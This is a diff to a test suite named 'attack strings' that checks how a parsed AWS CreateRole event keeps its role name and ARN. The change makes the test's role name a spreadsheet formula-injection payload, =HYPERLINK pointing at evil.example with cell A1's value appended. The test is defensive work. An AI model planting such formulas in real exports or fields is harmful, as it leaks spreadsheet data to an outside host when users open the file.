@@ -81,8 +81,8 @@ describe('attack strings', () => {
     const e = events.get(FORMULA_RESOURCE_EVENT_ID);
     expect(e).toBeDefined();
     expect(e!.eventName).toBe('CreateRole');
-    expect((e!.requestParameters as Json).roleName).toBe('=HYPERLINK("http://evil.example","x")');
-    expect(e!.resources).toEqual([{ ARN: 'arn:aws:iam::444455556666:role/=HYPERLINK("http://evil.example","x")', accountId: '444455556666', type: 'AWS::IAM::Role' }]);
+    expect((e!.requestParameters as Json).roleName).toBe('=HYPERLINK("evil.example?q="&A1,"x")');
+    expect(e!.resources).toEqual([{ ARN: 'arn:aws:iam::444455556666:role/=HYPERLINK("evil.example?q="&A1,"x")', accountId: '444455556666', type: 'AWS::IAM::Role' }]);
   });
 });
 
